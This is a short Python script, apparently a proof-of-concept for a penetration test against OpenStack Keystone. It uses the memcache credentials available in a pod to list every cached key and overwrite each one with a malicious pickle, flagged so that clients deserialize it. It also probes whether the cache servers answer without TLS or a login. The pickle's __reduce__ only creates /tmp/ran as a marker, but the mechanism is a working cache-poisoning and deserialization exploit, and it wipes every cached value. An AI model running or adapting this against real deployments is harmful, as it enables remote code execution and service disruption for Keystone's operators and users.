"""Writes a pickle over everything that Keystone has cached, with the flag by which clients know one; run in one of its pods.

Whoever makes something of it leaves /tmp/ran behind. Says how many values were written over, and what a stranger gets to hear.
"""

import configparser
import os
import pickle
import socket
import ssl
import sys
from urllib.parse import unquote

import bmemcached

conf = configparser.ConfigParser(strict=False, interpolation=None)
conf.read(sys.argv[1] if len(sys.argv) > 1 else "/etc/keystone/keystone.conf")
options = conf["cache"]
trust = ssl.create_default_context(cafile=options["tls_cafile"])


class Run:
    def __reduce__(self):
        return open, ("/tmp/ran", "w")


def stranger(address, encrypted):
    host, port = address.rsplit(":", 1)
    try:
        with socket.create_connection((host, int(port)), timeout=5) as plain:
            link = trust.wrap_socket(plain, server_hostname=host) if encrypted else plain
            link.sendall(b"stats\r\n")
            answer = link.recv(4096)
        return "told" if answer.startswith(b"STAT") else "refused"
    except OSError:
        return "refused"


def names(server):
    """All that are there. The client's own way to send any command forgets all of the answer but what comes last."""
    server.get("connect")
    server.sock.sendall(b"lru_crawler metadump all\r\n")
    listing = b""
    while not listing.endswith(b"END\r\n"):
        part = server.sock.recv(65536)
        if not part:
            raise EOFError("the cache hung up in the middle of its list")
        listing += part
    lines = listing.decode().splitlines()
    return [unquote(line.split()[0][len("key=") :]) for line in lines if line.startswith("key=")]


planted = 0
for address in options["memcache_servers"].split(","):
    print("in the clear", stranger(address, False))
    print("without a login", stranger(address, True))
    login = (os.environ["OS_CACHE__MEMCACHE_USERNAME"], os.environ["OS_CACHE__MEMCACHE_PASSWORD"])
    server = bmemcached.Client([address], *login, trust).servers[0]
    for name in names(server):
        # The flag by which all the usual clients know a pickle.
        planted += bool(server.set(name, pickle.dumps(Run()), flags=1))
print("planted", planted)
